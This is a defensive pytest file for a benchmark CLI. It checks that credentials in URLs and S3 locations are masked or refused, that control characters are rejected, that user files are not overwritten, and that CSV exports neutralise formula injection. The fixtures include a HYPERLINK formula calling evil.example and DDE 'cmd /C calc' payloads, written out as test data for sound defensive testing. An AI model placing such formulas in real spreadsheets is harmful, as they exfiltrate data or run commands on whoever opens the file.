"""Hostile and careless inputs to the commands that write or print a location: no user's file replaced, no
secret printed or published, no formula in a CSV a spreadsheet opens (docs/security.md, "No file lost, no secret
shown")."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from fmbench.cli import main
from fmbench.owned_files import UnownedFileError, place_files
from fmbench.project import PROJECT_FILE, ProjectError, parse_config
from fmbench.redaction import library_message, redact
from fmbench.views.data import spreadsheet_cell

from testdata import FIXTURES

SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"
"""A secret a user put in a location: it must never be printed or published."""


def _cli(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.output


def _one_line_error(code: int, out: str) -> str:
    assert code == 1, out
    assert "Traceback" not in out and len(out.strip().splitlines()) == 1, out
    assert out.startswith("Error: "), out
    return out.strip()


# --- the site's address -----------------------------------------------------------------------------------------


def _toml_with_site_url(url: str) -> str:
    escaped = "".join(f"\\u{ord(c):04x}" if ord(c) < 0x20 or c in '"\\\x7f' or 0x80 <= ord(c) < 0xA0 else c for c in url)
    return f'[site]\nsite_url = "{escaped}"\n'


@pytest.mark.parametrize(
    "url",
    [
        f"https://ada:{SECRET}@ada.github.io/results/",
        f"https://{SECRET}@ada.github.io/results/",
        "https://ada.github.io/re\nsults/",
        "https://ada.github.io/re\rsults/",
        "https://ada.github.io/re sults/",
        "https://ada.github.io/re\tsults/",
        "https://ada.github.io/re\x85sults/",
        "https://ada.github.io/re\u2028sults/",
        "https://ada.github.io/results/\x1b]52;c;eA==\x07",
        "https:///results/",
    ],
    ids=["user-and-password", "token-as-user", "newline", "carriage-return", "space", "tab", "c1-control",
         "line-separator", "osc-52", "no-host"],
)
def test_init_refuses_a_site_url_holding_credentials_whitespace_or_controls_in_one_line(tmp_path: Path, url: str) -> None:
    folder = tmp_path / "results"
    out = _one_line_error(*_cli("init", str(folder), "--site-url", url))
    assert "site.site_url: expected a URL" in out
    assert SECRET not in out
    assert not folder.exists()


def test_a_site_url_holding_credentials_in_fmbench_toml_stops_the_build_naming_the_file_and_key(tmp_path: Path) -> None:
    folder = tmp_path / "results"
    assert _cli("init", str(folder), "--site-url", "https://ada.github.io/results/")[0] == 0
    toml = folder / PROJECT_FILE
    toml.write_text(
        toml.read_text(encoding="utf-8").replace(
            'site_url = "https://ada.github.io/results/"', f'site_url = "https://ada:{SECRET}@ada.github.io/results/"'
        ),
        encoding="utf-8",
    )
    out = _one_line_error(*_cli("--project", str(folder), "build", "-j", "1"))
    assert f"{PROJECT_FILE}: site.site_url: expected a URL without a user name or password" in out
    assert SECRET not in out
    assert not (folder / "_site").exists()


def test_a_site_url_holding_a_line_break_in_fmbench_toml_stops_the_build_naming_the_file_and_key(tmp_path: Path) -> None:
    folder = tmp_path / "results"
    assert _cli("init", str(folder), "--site-url", "https://ada.github.io/results/")[0] == 0
    toml = folder / PROJECT_FILE
    text = toml.read_text(encoding="utf-8")
    toml.write_text(text.replace('site_url = "https://ada.github.io/results/"', 'site_url = "https://ada.github.io/ab:\\n c/"'), encoding="utf-8")
    out = _one_line_error(*_cli("--project", str(folder), "build", "-j", "1"))
    assert f"{PROJECT_FILE}: site.site_url: expected a URL without spaces, line breaks or control characters" in out
    assert not (folder / "_site").exists()


@pytest.mark.parametrize("url", ["https://ada.github.io/results/", "http://localhost:8000/", "https://ada.example/a/b/"])
def test_a_plain_site_url_is_still_taken(url: str) -> None:
    assert parse_config(_toml_with_site_url(url), "fmbench.toml").site.site_url == url


@pytest.mark.parametrize("base", [f"https://ada:{SECRET}@ada.github.io/results/", "/re\nsults/", "/a b/"])
def test_build_refuses_a_base_url_holding_credentials_or_a_line_break_in_one_line(tmp_path: Path, base: str) -> None:
    db = tmp_path / "db.duckdb"
    assert _cli("ingest", str(FIXTURES / "iphone-17-pro-ios27-24a5256a-on-device-performance-2026-10-29.json"),
                "--db", str(db))[0] == 0
    result = CliRunner().invoke(main, ["build", "--db", str(db), "--out", str(tmp_path / "site"), "--base-url", base])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "--base-url: expected a URL without" in result.output and SECRET not in result.output
    assert not (tmp_path / "site").exists()


def test_the_repository_url_is_held_to_the_same_rule() -> None:
    with pytest.raises(ProjectError, match=r"^fmbench.toml: repository.url: expected a URL without a user name"):
        parse_config(f'[repository]\nurl = "https://ada:{SECRET}@github.com/ada/results"\n', "fmbench.toml")


# --- credentials in a location: masked, one line ----------------------------------------------------------------


def test_redact_masks_the_user_part_and_signed_query_values_and_keeps_the_rest() -> None:
    assert redact(f"s3://KEY:{SECRET}@bucket/p: gone") == "s3://***@bucket/p: gone"
    assert redact(f"see https://{SECRET}@github.com/a/b.git") == "see https://***@github.com/a/b.git"
    signed = f"https://b.s3.amazonaws.com/k?X-Amz-Credential=AKIA/x&X-Amz-Signature={SECRET}&part=2"
    assert redact(signed) == "https://b.s3.amazonaws.com/k?X-Amz-Credential=***&X-Amz-Signature=***&part=2"
    assert redact("mailto:ada@example.org and /runs/a@b.json") == "mailto:ada@example.org and /runs/a@b.json"


def test_a_library_traceback_inside_an_error_becomes_its_last_line() -> None:
    text = (
        "IO Error: Traceback (most recent call last):\n  File \"x.py\", line 68, in _emit\n"
        "ParamValidationError: Parameter validation failed:\nInvalid bucket name\n\nLINE 1: SELECT 1\n        ^^^"
    )
    assert library_message(text) == "IO Error: ParamValidationError: Parameter validation failed: Invalid bucket name"


@pytest.fixture(scope="module")
def s3_server() -> Iterator[dict[str, str]]:
    """A moto S3 server on 127.0.0.1, and the environment a command reaches it with."""
    moto_server = pytest.importorskip("moto.server")
    pytest.importorskip("s3fs")
    server = moto_server.ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    try:
        yield {
            "AWS_ENDPOINT_URL": f"http://{host}:{port}",
            "AWS_ACCESS_KEY_ID": "fmbench-test",
            "AWS_SECRET_ACCESS_KEY": "fmbench-test-secret",
            "AWS_DEFAULT_REGION": "us-east-1",
        }
    finally:
        server.stop()


def _fmbench(env: dict[str, str], *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-P", "-m", "fmbench", *args], capture_output=True, text=True, timeout=120, cwd=cwd,
        env={**os.environ, **env, "NO_COLOR": "1"},
    )


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.mark.parametrize("command", ["build", "serve"])
def test_a_parquet_location_holding_credentials_is_one_masked_line(
    s3_server: dict[str, str], tmp_path: Path, command: str
) -> None:
    location = f"s3://AKIAFMBENCHEXAMPLE:{SECRET}@hostile-bucket/p"
    args = ["build", "--parquet", location, "--out", str(tmp_path / "site")] if command == "build" else [
        "serve", "--parquet", location, "--port", str(_free_port()), "--no-warm-up"]
    done = _fmbench(s3_server, *args)
    assert done.returncode == 1, done.stderr
    assert SECRET not in done.stdout + done.stderr and "AKIAFMBENCHEXAMPLE" not in done.stdout + done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert "s3://***@hostile-bucket/p: a location holding credentials is refused" in done.stderr
    assert not (tmp_path / "site").exists()


def test_a_library_error_reading_object_storage_is_one_line_without_its_traceback(
    s3_server: dict[str, str], tmp_path: Path
) -> None:
    done = _fmbench(s3_server, "build", "--parquet", "s3://Not_A:Bucket/p", "--out", str(tmp_path / "site"))
    assert done.returncode == 1
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert done.stderr.startswith("Error: s3://Not_A:Bucket/p: ")



# --- the trials CSV ---------------------------------------------------------------------------------------------

FORMULAS = {
    "id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    0: "@SUM(1+1)*cmd|' /C calc'!A0",
    1: "-2+3+cmd|' /C calc'!A0",
    2: "+1+1",
    3: "\t=1+1",
    4: "\r=1+1",
    5: "=1+1",
}


def _run_with_formulas(folder: Path) -> Path:
    source = FIXTURES / "iphone-17-pro-ios27-24a5256a-on-device-performance-2026-10-29.json"
    doc = json.loads(source.read_text(encoding="utf-8"))
    trials = doc["trials"]
    trials[0]["id"] = FORMULAS["id"]
    for i in range(6):
        trials[i]["response"] = FORMULAS[i]
    trials[6]["response"] = "-42"
    target = folder / "formulas.json"
    target.write_text(json.dumps(doc), encoding="utf-8")
    return target


def test_the_trials_csv_neutralises_every_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
    db = tmp_path / "db.duckdb"
    assert _cli("ingest", str(_run_with_formulas(tmp_path)), "--db", str(db))[0] == 0
    code, out = _cli("export", "--db", str(db), "--trials-csv", str(tmp_path / "csv"))
    assert code == 0, out
    (written,) = sorted((tmp_path / "csv").glob("*.trials.csv"))
    rows = list(csv.DictReader(io.StringIO(written.read_bytes().decode("utf-8"), newline="")))
    assert rows[0]["trial_id"] == "'" + FORMULAS["id"]
    assert [r["response"] for r in rows[:7]] == ["'" + FORMULAS[i] for i in range(6)] + ["-42"]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), (column, cell)
    assert float(rows[0]["duration"]) > 0  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("@x", "'@x"), ("+x", "'+x"), ("-x", "'-x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("-42", "-42"), ("+1.5e3", "+1.5e3"), (-1.5, -1.5), (-3, -3), (None, None), (True, True), ("a=1", "a=1")],
)
def test_a_spreadsheet_cell_is_quoted_only_when_it_would_be_a_formula(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell


# --- one writer that never replaces a file it did not write -----------------------------------------------------

RUNS = (
    "iphone-17-pro-ios27-24a5256a-on-device-performance-2026-10-29.json",
    "iphone-17-pro-ios27-24a5264n-on-device-performance-2026-11-03.json",
)
NATIVE = Path(__file__).parent / "native" / "data"


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def exported(tmp_path: Path) -> tuple[Path, Path]:
    """A database of two runs, exported once into a folder of the user's."""
    db = tmp_path / "fmbench.duckdb"
    assert _cli("ingest", *(str(FIXTURES / name) for name in RUNS), "--db", str(db))[0] == 0
    out = tmp_path / "originals"
    code, text = _cli("export", "--db", str(db), "--originals", str(out))
    assert code == 0, text
    return db, out


def test_export_originals_refuses_to_replace_a_file_the_user_edited_and_names_it(exported: tuple[Path, Path]) -> None:
    db, out = exported
    edited = out / RUNS[0]
    edited.write_text('{"my": "edit"}\n', encoding="utf-8")
    before = _snapshot(out)
    error = _one_line_error(*_cli("export", "--db", str(db), "--originals", str(out)))
    assert f"{edited}: exists and is not a file fmbench wrote, or was changed since" in error
    assert "--force" in error
    assert _snapshot(out) == before  # nothing written, the edit kept
    assert not [p for p in out.parent.iterdir() if p.name.startswith(".")]  # no staging folder left
    code, text = _cli("export", "--db", str(db), "--originals", str(out), "--force")
    assert code == 0, text
    assert edited.read_bytes() == (FIXTURES / RUNS[0]).read_bytes()


def test_export_originals_refuses_an_unrelated_file_under_a_name_it_writes(tmp_path: Path) -> None:
    db = tmp_path / "fmbench.duckdb"
    assert _cli("ingest", str(FIXTURES / RUNS[0]), "--db", str(db))[0] == 0
    out = tmp_path / "mine"
    out.mkdir()
    (out / RUNS[0]).write_text("my notes, not a run\n", encoding="utf-8")
    error = _one_line_error(*_cli("export", "--db", str(db), "--originals", str(out)))
    assert f"{out / RUNS[0]}: exists and is not a file fmbench wrote" in error
    assert (out / RUNS[0]).read_text(encoding="utf-8") == "my notes, not a run\n"


def test_export_again_over_its_own_output_works_and_keeps_its_record_outside_the_folder(
    exported: tuple[Path, Path], tmp_path: Path
) -> None:
    db, out = exported
    names = set(_snapshot(out))
    code, text = _cli("export", "--db", str(db), "--originals", str(out))
    assert code == 0, text
    assert set(_snapshot(out)) == names  # no record or other state of fmbench's inside the exported folder
    records = list((tmp_path / "fmbench.duckdb.written").glob("*.json"))
    assert len(records) == 1
    assert set(json.loads(records[0].read_text(encoding="utf-8"))["files"]) == names


def test_a_file_this_export_wrote_is_replaced_when_the_database_changed_it_but_a_user_edit_is_not(tmp_path: Path) -> None:
    """The record says which bytes fmbench wrote: a file still holding them is fmbench's to replace."""
    folder, record = tmp_path / "out", tmp_path / "db.duckdb.written" / "out.json"
    folder.mkdir()

    def staged(text: str) -> list[tuple[str, Path]]:
        source = tmp_path / f"staged-{len(list(tmp_path.glob('staged-*')))}"
        source.write_text(text, encoding="utf-8")
        return [("run.json", source)]

    place_files(folder, staged("first"), record=record)
    place_files(folder, staged("second"), record=record)  # fmbench's own file, its bytes as recorded: replaced
    assert (folder / "run.json").read_text(encoding="utf-8") == "second"
    (folder / "run.json").write_text("edited", encoding="utf-8")
    with pytest.raises(UnownedFileError, match=r"run.json: exists and is not a file fmbench wrote"):
        place_files(folder, staged("third"), record=record)
    assert (folder / "run.json").read_text(encoding="utf-8") == "edited"


def test_export_trials_csv_refuses_to_replace_an_edited_csv(exported: tuple[Path, Path], tmp_path: Path) -> None:
    db, _ = exported
    out = tmp_path / "csv"
    assert _cli("export", "--db", str(db), "--trials-csv", str(out))[0] == 0
    assert _cli("export", "--db", str(db), "--trials-csv", str(out))[0] == 0  # over its own output
    first = sorted(out.iterdir())[0]
    first.write_bytes(b"my,sheet\r\n")
    error = _one_line_error(*_cli("export", "--db", str(db), "--trials-csv", str(out)))
    assert f"{first}: exists and is not a file fmbench wrote" in error
    assert first.read_bytes() == b"my,sheet\r\n"


def _native(*args: str) -> tuple[int, str]:
    return _cli("native", *args)


@pytest.mark.parametrize("target_name", ["results.jsonl", "one.xcevalresult"])
def test_native_convert_refuses_to_replace_an_unrelated_file_and_names_it(tmp_path: Path, target_name: str) -> None:
    source = NATIVE / ("batch.jsonl" if target_name.endswith(".jsonl") else "baseline.xcevalresult")
    target = tmp_path / target_name
    target.write_text("an unrelated file of the user's\n", encoding="utf-8")
    error = _one_line_error(*_native("convert", str(source), str(target)))
    assert f"{target}: exists and is not a file fmbench wrote" in error
    assert target.read_text(encoding="utf-8") == "an unrelated file of the user's\n"
    assert [p.name for p in tmp_path.iterdir()] == [target_name]  # no temporary file left
    assert _native("convert", str(source), str(target), "--force")[0] == 0
    assert target.read_text(encoding="utf-8") != "an unrelated file of the user's\n"
    assert _native("convert", str(source), str(target))[0] == 0  # over its own output: the same bytes


def test_native_convert_into_a_folder_writes_nothing_when_one_name_is_taken(tmp_path: Path) -> None:
    folder = tmp_path / "split"
    assert _native("convert", str(NATIVE / "batch.jsonl"), str(folder))[0] == 0
    written = sorted(folder.iterdir())
    assert len(written) == 3
    for path in written[1:]:
        path.unlink()
    written[0].write_text("mine\n", encoding="utf-8")
    error = _one_line_error(*_native("convert", str(NATIVE / "batch.jsonl"), str(folder)))
    assert f"{written[0]}: exists and is not a file fmbench wrote" in error
    assert sorted(p.name for p in folder.iterdir()) == [written[0].name]  # the other two not written either


# --- export --parquet to object storage ---------------------------------------------------------------------------


def _s3(s3: dict[str, str]) -> Any:
    """A client of the moto server, the bucket ``hostile-bucket`` made; never fsspec's cached instance. (moto keeps
    one state a process: the object-storage tests make a bucket ``bench`` of their own.)"""
    import s3fs

    fs = s3fs.S3FileSystem(
        key=s3["AWS_ACCESS_KEY_ID"], secret=s3["AWS_SECRET_ACCESS_KEY"],
        client_kwargs={"endpoint_url": s3["AWS_ENDPOINT_URL"]}, skip_instance_cache=True,
    )
    if not fs.exists("hostile-bucket"):
        fs.mkdir("hostile-bucket")
    return fs


def _bucket_files(s3: dict[str, str], prefix: str) -> dict[str, bytes]:
    fs = _s3(s3)
    return {key.removeprefix(f"{prefix}/"): fs.cat_file(key) for key in fs.find(prefix)}


def test_export_parquet_to_s3_writes_the_dataset_into_the_bucket_and_never_a_local_folder(
    s3_server: dict[str, str], exported: tuple[Path, Path], tmp_path: Path
) -> None:
    db, _ = exported
    _s3(s3_server)  # makes the bucket
    work = tmp_path / "work"
    work.mkdir()
    done = _fmbench(s3_server, "export", "--db", str(db), "--parquet", "s3://hostile-bucket/fmbench", cwd=work)
    assert done.returncode == 0, done.stderr
    assert "written to s3://hostile-bucket/fmbench as Parquet" in done.stdout
    assert list(work.iterdir()) == []  # no local "s3:" folder
    local = tmp_path / "local"
    assert _cli("export", "--db", str(db), "--parquet", str(local))[0] == 0
    remote = _bucket_files(s3_server, "hostile-bucket/fmbench")
    assert remote.keys() == _snapshot(local).keys()
    assert json.loads(remote["fmbench-dataset.json"]) == json.loads((local / "fmbench-dataset.json").read_bytes())
    again = _fmbench(s3_server, "export", "--db", str(db), "--parquet", "s3://hostile-bucket/fmbench")  # over its own output
    assert again.returncode == 0, again.stderr
    assert _bucket_files(s3_server, "hostile-bucket/fmbench").keys() == remote.keys()
    site = tmp_path / "site"
    built = _fmbench(s3_server, "build", "--parquet", "s3://hostile-bucket/fmbench", "--out", str(site), "-j", "1")
    assert built.returncode == 0, built.stderr
    assert len(list(site.glob("runs/*/index.html"))) == len(RUNS)
    smaller = tmp_path / "one-run.duckdb"
    assert _cli("ingest", str(FIXTURES / RUNS[0]), "--db", str(smaller))[0] == 0
    assert _fmbench(s3_server, "export", "--db", str(smaller), "--parquet", "s3://hostile-bucket/fmbench").returncode == 0
    assert _cli("export", "--db", str(smaller), "--parquet", str(tmp_path / "one-run"))[0] == 0
    # the partition of the run no longer there is removed, not left for a reader to find
    assert _bucket_files(s3_server, "hostile-bucket/fmbench").keys() == _snapshot(tmp_path / "one-run").keys()


def test_export_parquet_refuses_a_prefix_that_is_not_a_dataset_and_a_location_with_credentials(
    s3_server: dict[str, str], exported: tuple[Path, Path], tmp_path: Path
) -> None:
    db, _ = exported
    fs = _s3(s3_server)
    fs.pipe_file("hostile-bucket/mine/notes.txt", b"the user's")
    refused = _fmbench(s3_server, "export", "--db", str(db), "--parquet", "s3://hostile-bucket/mine")
    assert refused.returncode == 1
    assert refused.stderr.strip() == (
        "Error: s3://hostile-bucket/mine: holds objects and is not an fmbench Parquet dataset; choose another prefix"
    )
    assert fs.find("hostile-bucket/mine") == ["hostile-bucket/mine/notes.txt"]
    secret = _fmbench(s3_server, "export", "--db", str(db), "--parquet", f"s3://AKIAFMBENCHEXAMPLE:{SECRET}@hostile-bucket/x", cwd=tmp_path)
    assert secret.returncode == 1 and SECRET not in secret.stdout + secret.stderr
    assert "s3://***@hostile-bucket/x: a location holding credentials is refused" in secret.stderr
    assert not (tmp_path / "s3:").exists()
    missing = _fmbench(s3_server, "export", "--db", str(db), "--parquet", "s3://no-such-bucket/x")
    assert missing.returncode == 1 and "Traceback" not in missing.stderr
    assert len(missing.stderr.strip().splitlines()) == 1, missing.stderr
    assert missing.stderr.startswith("Error: s3://no-such-bucket/x: ")


def test_export_parquet_to_a_scheme_it_does_not_know_makes_no_folder_of_that_name(
    exported: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db, _ = exported
    monkeypatch.chdir(tmp_path)
    for location in ("s3:/hostile-bucket/x", "S3://hostile-bucket/x", "ftp://host/x"):
        error = _one_line_error(*_cli("export", "--db", str(db), "--parquet", location))
        assert "not a location fmbench writes to" in error
    assert not [p for p in tmp_path.iterdir() if ":" in p.name]
